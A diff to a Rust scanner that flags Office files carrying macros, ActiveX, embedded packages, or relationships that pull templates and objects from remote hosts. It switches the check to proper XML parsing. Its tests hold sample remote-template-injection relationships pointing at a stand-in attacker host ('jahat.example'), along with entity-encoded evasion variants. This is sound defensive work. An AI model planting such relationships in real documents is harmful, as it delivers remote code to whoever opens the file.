@@ -1,8 +1,12 @@
 //! Looks into an Office file (DOCX, XLSX, PPTX) for what can act on its own: macros, controls, programs packed inside, templates that
 //! are fetched from elsewhere. What its list of contents hides or cannot be read is not taken either.
 
-use std::io::{Cursor, Read, Seek};
+use std::{
+    borrow::Cow,
+    io::{Cursor, Read, Seek},
+};
 
+use quick_xml::{Reader, XmlVersion, events::Event};
 use zip::ZipArchive;
 
 /// Parts of one file; a long workbook has some hundreds.
@@ -18,6 +22,9 @@ const ACTING: &[&str] =
     &["vbaproject", "vbadata", "macroenabled", "macrosheet", "dialogsheet", "activex", "attachedtoolbars"];
 /// Packages that may be inside, because charts and tables bring them along.
 const INSIDE: &[&str] = &["docx", "xlsx", "pptx"];
+
+/// Relations whose target a program opens along with the file.
+const FOLLOWED: &[&str] = &["/attachedtemplate", "/oleobject", "/frame", "/subdocument", "/package"];
 
 /// Why an Office file is not taken.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -94,35 +101,91 @@ fn judge_name(name: &str) -> Result<(), OfficeFault> {
 
 /// A macro may have any name; its declared type tells.
 fn judge_types(xml: &[u8]) -> Result<(), OfficeFault> {
-    judge_name(&lower(xml))
+    for element in elements(xml)? {
+        for (_, value) in element.attributes {
+            judge_name(&value)?;
+        }
+    }
+    Ok(())
 }
 
 /// Relations that reach out of the file and are followed without being asked: templates, objects, frames. Links that people click
 /// are only links, and a template on the writer's own disk is nobody else's.
 fn judge_relations(xml: &[u8]) -> Result<(), OfficeFault> {
-    let text = lower(xml);
-    judge_name(&text)?;
-    for relation in text.split("<relationship").skip(1) {
-        let relation = relation.split('>').next().unwrap_or_default();
-        let is_followed = ["/attachedtemplate", "/oleobject", "/frame", "/subdocument", "/package"]
-            .iter()
-            .any(|kind| relation.contains(kind));
-        let is_outside = relation.contains("external");
-        let is_far = ["http:", "https:", "ftp:", "mhtml:", "\\\\", "file://"]
-            .iter()
-            .any(|start| relation.contains(&format!("target=\"{start}")))
-            && !relation.contains("target=\"file:///");
-        if is_followed && is_outside && is_far {
+    for element in elements(xml)? {
+        for (_, value) in &element.attributes {
+            judge_name(value)?;
+        }
+        let has = |name: &str, is_so: fn(&str) -> bool| {
+            element.attributes.iter().any(|(known, value)| known == name && is_so(value))
+        };
+        let is_relation = element.name == "relationship";
+        if is_relation
+            && has("type", |kind| FOLLOWED.iter().any(|known| kind.contains(known)))
+            && has("targetmode", |mode| mode.trim() == "external")
+            && !has("target", is_near)
+        {
             return Err(OfficeFault::Outside);
         }
     }
     Ok(())
 }
 
-/// Lower case without the zeros of UTF-16, so that one comparison does for every spelling.
-fn lower(xml: &[u8]) -> String {
-    let plain: Vec<u8> = xml.iter().copied().filter(|byte| *byte != 0).collect();
-    String::from_utf8_lossy(&plain).to_lowercase()
+/// A file on the reader's own disk, by its whole path. `file:////server/…`, `file:///\\server\…` and the like are other machines.
+fn is_near(target: &str) -> bool {
+    let path = target.strip_prefix("file:///");
+    let mut letters = path.unwrap_or(target).chars();
+    let begins_with_a_letter = letters.next().is_some_and(|letter| letter.is_ascii_alphanumeric());
+    let has_drive = letters.next() == Some(':') && matches!(letters.next(), Some('\\' | '/'));
+    begins_with_a_letter && (path.is_some() || has_drive)
+}
+
+/// An element with what it says, all in lower case, and without the prefixes of its namespaces.
+struct Element {
+    name: String,
+    attributes: Vec<(String, String)>,
+}
+
+/// Every element of a part, whatever way of writing XML was chosen for it. What defines names of its own, or is written in another
+/// encoding than a package may have, is not taken: there is no telling what the reader's program makes of it.
+fn elements(xml: &[u8]) -> Result<Vec<Element>, OfficeFault> {
+    let text = text_of(xml)?;
+    let mut reader = Reader::from_str(text.trim_start_matches('\u{feff}'));
+    let mut elements = Vec::new();
+    loop {
+        match reader.read_event().map_err(broken)? {
+            Event::Start(found) | Event::Empty(found) => {
+                let mut attributes = Vec::new();
+                for attribute in found.attributes() {
+                    let attribute = attribute.map_err(broken)?;
+                    let value = attribute.normalized_value(XmlVersion::Explicit1_0).map_err(broken)?;
+                    attributes.push((attribute.key.local_name().into_inner().to_lowercase(), value.to_lowercase()));
+                }
+                elements.push(Element { name: found.local_name().into_inner().to_lowercase(), attributes });
+            }
+            Event::Decl(found) => {
+                let encoding = found.encoding().transpose().map_err(broken)?.unwrap_or_default().to_lowercase();
+                if !["", "utf-8", "utf8", "utf-16", "us-ascii"].contains(&encoding.as_str()) {
+                    return Err(OfficeFault::Broken);
+                }
+            }
+            Event::DocType(_) => return Err(OfficeFault::Broken),
+            Event::Eof => return Ok(elements),
+            _ => {}
+        }
+    }
+}
+
+/// Parts are written in UTF-8 or UTF-16.
+fn text_of(xml: &[u8]) -> Result<Cow<'_, str>, OfficeFault> {
+    let order: fn([u8; 2]) -> u16 = match xml {
+        [0xff, 0xfe, ..] | [_, 0, ..] => u16::from_le_bytes,
+        [0xfe, 0xff, ..] | [0, ..] => u16::from_be_bytes,
+        _ => return std::str::from_utf8(xml).map(Cow::Borrowed).map_err(broken),
+    };
+    let (pairs, rest) = xml.as_chunks::<2>();
+    let units: Vec<u16> = pairs.iter().map(|pair| order(*pair)).collect();
+    if rest.is_empty() { String::from_utf16(&units).map(Cow::Owned).map_err(broken) } else { Err(OfficeFault::Broken) }
 }
 
 #[cfg(test)]
@@ -181,6 +244,55 @@ mod tests {
     }
 
     #[test]
+    fn a_template_from_elsewhere_is_found_however_it_is_written() {
+        let kind = "http://x/attachedTemplate";
+        let far = "https://jahat.example/t.dotm";
+        for xml in [
+            format!(
+                "<Relationships><Relationship Type='{kind}' Target='{far}' TargetMode='External'/></Relationships>"
+            ),
+            format!(
+                "<Relationships><Relationship Type = \"{kind}\" Target\n=\"{far}\" TargetMode=\"External\"></Relationship></Relationships>"
+            ),
+            format!(
+                "<Relationships><Relationship Type=\"{kind}\" Target=\"&#104;ttps://jahat.example/t\" TargetMode=\"External\"/></Relationships>"
+            ),
+            format!(
+                "<r:Relationships xmlns:r=\"y\"><r:Relationship Type=\"{kind}\" Target=\"{far}\" TargetMode=\"Ext&#x65;rnal\"/></r:Relationships>"
+            ),
+            format!(
+                "<Relationships><Relationship Target=\"{far}\" TargetMode=\"External\" Type=\"http://x/att&#97;chedTemplate\"/></Relationships>"
+            ),
+        ] {
+            assert_eq!(
+                check(&with("word/_rels/settings.xml.rels", xml.as_bytes())),
+                Err(OfficeFault::Outside),
+                "{xml}"
+            );
+        }
+        for target in [
+            "file:////server/bagi/t.dotm",
+            "file://server/bagi/t.dotm",
+            "file:///\\\\server\\t.dotm",
+            "file:///%5c%5cserver/t.dotm",
+            "//server/t.dotm",
+            "t.dotm",
+            "FTP://jahat.example/t.dotm",
+            "",
+        ] {
+            let bytes = with("word/_rels/settings.xml.rels", &relation("attachedTemplate", target));
+            assert_eq!(check(&bytes), Err(OfficeFault::Outside), "{target}");
+        }
+        let named = "<!DOCTYPE r [<!ENTITY h \"https\">]><Relationships/>";
+        let elsewhere = "<?xml version=\"1.0\" encoding=\"UTF-7\"?><Relationships/>";
+        for xml in [named, elsewhere, "<Relationships><Relationship", "<a></b>"] {
+            assert_eq!(check(&with("word/_rels/settings.xml.rels", xml.as_bytes())), Err(OfficeFault::Broken), "{xml}");
+        }
+        let escaped = TYPES.replace("application/xml", "application/vnd.ms-office.vba&#80;roject");
+        assert_eq!(check(&package(&[("[Content_Types].xml", escaped.as_bytes())])), Err(OfficeFault::Macro));
+    }
+
+    #[test]
     fn ordinary_files_pass_and_broken_ones_do_not() {
         let sheet = package(&[("[Content_Types].xml", TYPES.as_bytes()), ("xl/workbook.xml", b"<x/>")]);
         let ordinary = [
@@ -188,6 +300,8 @@ mod tests {
             with("ppt/embeddings/Microsoft_Excel_Sheet.xlsx", &sheet),
             with("word/_rels/document.xml.rels", &relation("hyperlink", "https://contoh.go.id/")),
             with("word/_rels/settings.xml.rels", &relation("attachedTemplate", "file:///C:/Users/Siti/Normal.dotm")),
+            with("word/_rels/settings.xml.rels", &relation("attachedTemplate", "file:///Users/siti/Normal.dotm")),
+            with("word/_rels/settings.xml.rels", &relation("attachedTemplate", "C:\\Surat\\Surat Dinas.dotx")),
         ];
         for (number, bytes) in ordinary.into_iter().enumerate() {
             assert_eq!(check(&bytes), Ok(()), "{number}");
